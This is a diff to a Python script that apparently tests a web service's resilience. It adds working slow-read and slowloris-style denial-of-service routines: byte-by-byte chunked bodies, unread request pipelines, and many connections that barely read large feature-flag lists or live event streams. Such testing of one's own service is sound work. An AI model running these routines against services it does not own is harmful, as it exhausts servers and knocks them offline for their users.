@@ -8,10 +8,12 @@ Each goes on for so many seconds, whatever it is answered, and prints how often 
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import gzip
 import json
 import os
 import random
+import socket
 import sys
 import time
 from collections import Counter
@@ -59,21 +61,45 @@ class Attacker:
     async def authorized(self, method: str, path: str, **options: Any) -> httpx.Response | None:
         return await self.send(method, path, headers={"Authorization": f"Bearer {self.key}"}, **options)
 
-    async def raw(self, data: bytes, *, hold_s: float) -> None:
-        """Send bytes over a connection of its own and keep it open without sending more."""
+    async def raw(self, data: bytes, *, hold_s: float, trickle: bytes = b"", reads_s: float = 0.0) -> None:
+        """Send bytes over a connection of its own and keep it open.
+
+        Each second ``trickle`` is sent. ``reads_s``: how often a few bytes of the answer are read, 0 for once.
+        """
+        loop = asyncio.get_running_loop()
+        until = loop.time() + min(hold_s, max(0.1, self.end - time.monotonic()))
+        connection = socket.socket()
+        connection.setblocking(False)
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
         try:
-            reader, writer = await asyncio.open_connection(self.host, self.port)
-            writer.write(data)
-            await writer.drain()
-            with_limit = min(hold_s, max(0.1, self.end - time.monotonic()))
-            answer = await asyncio.wait_for(reader.read(64), with_limit)
-            self.answers[answer[9:12].decode("latin-1") or "closed"] += 1
-            writer.close()
+            async with asyncio.timeout_at(until):
+                await loop.sock_connect(connection, (self.host, self.port))
+                sending = asyncio.create_task(_send_slowly(loop, connection, data, trickle))
+                try:
+                    answer = await loop.sock_recv(connection, 64)
+                    self.answers[answer[9:12].decode("latin-1") or "closed"] += 1
+                    while answer and reads_s:
+                        await asyncio.sleep(reads_s)
+                        answer = await loop.sock_recv(connection, 64)
+                finally:
+                    sending.cancel()
         except TimeoutError:
             self.answers["held"] += 1
-            writer.close()
         except OSError as error:
             self.answers[type(error).__name__] += 1
+        finally:
+            connection.close()
+
+
+async def _send_slowly(
+    loop: asyncio.AbstractEventLoop, connection: socket.socket, data: bytes, trickle: bytes
+) -> None:
+    """Send ``data``, and then ``trickle`` each second, until the other side has gone."""
+    with contextlib.suppress(OSError):
+        await loop.sock_sendall(connection, data)
+        while trickle:
+            await asyncio.sleep(1)
+            await loop.sock_sendall(connection, trickle)
 
 
 def head(path: str, length: int, *headers: str) -> bytes:
@@ -107,6 +133,47 @@ async def unfinished_bodies(self: Attacker) -> None:
 async def slow_headers(self: Attacker) -> None:
     while self.goes_on:
         await asyncio.gather(*(self.raw(b"GET / HTTP/1.1\r\nX-A: ", hold_s=5) for _ in range(40)))
+
+
+async def unread_lists(self: Attacker) -> None:
+    """Ask for a long list over many connections, and read next to nothing of it."""
+    groups = [{"properties": [], "rollout_percentage": 1, "description": "x" * 400_000}]
+    for number in range(10):
+        flag = {"key": f"long-{number}", "filters": {"groups": groups}}
+        await self.authorized("POST", self.api("feature_flags/"), json=flag)
+    path = self.api("feature_flags/?limit=100")
+    head = f"GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self.key}\r\n\r\n".encode()
+    while self.goes_on:
+        await asyncio.gather(*(self.raw(head, hold_s=20, reads_s=5) for _ in range(150)))
+
+
+async def unread_events(self: Attacker) -> None:
+    """Follow live events without reading them, while large ones come."""
+    path = self.api("events/live/")
+    head = f"GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self.key}\r\n\r\n".encode()
+    batch = [{"event": "e", "distinct_id": "d", "properties": {"t": "x" * 500_000}}] * 5
+
+    async def send() -> None:
+        while self.goes_on:
+            await self.send("POST", "/batch/", json={"api_key": self.token, "batch": batch})
+            await asyncio.sleep(0.5)
+
+    async def follow() -> None:
+        while self.goes_on:
+            await asyncio.gather(*(self.raw(head, hold_s=20, reads_s=5) for _ in range(40)))
+
+    await asyncio.gather(send(), follow())
+
+
+async def trickled_chunks(self: Attacker) -> None:
+    """Send bodies in chunks of a byte each, a second apart, and pipelines whose answers nobody reads."""
+    chunked = b"POST /batch/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
+    pipeline = b"GET /api/schema/ HTTP/1.1\r\nHost: x\r\n\r\n" * 200
+    while self.goes_on:
+        await asyncio.gather(
+            *(self.raw(chunked, hold_s=10, trickle=b"1\r\n \r\n") for _ in range(60)),
+            *(self.raw(pipeline, hold_s=10, reads_s=10) for _ in range(60)),
+        )
 
 
 async def bombs(self: Attacker) -> None:
@@ -287,8 +354,16 @@ async def hostile_functions(self: Attacker) -> None:
 
 
 KINDS: dict[str, tuple[Attack, ...]] = {
-    "stranger": (large_bodies, large_bodies, unfinished_bodies, slow_headers, bombs, made_up_tokens),
-    "key": (*[hostile_metrics] * 6, large_bodies_with_a_key, many_parts),
+    "stranger": (
+        large_bodies,
+        large_bodies,
+        unfinished_bodies,
+        slow_headers,
+        trickled_chunks,
+        bombs,
+        made_up_tokens,
+    ),
+    "key": (*[hostile_metrics] * 6, large_bodies_with_a_key, many_parts, unread_lists, unread_events),
     "function": (hostile_functions,),
 }
 
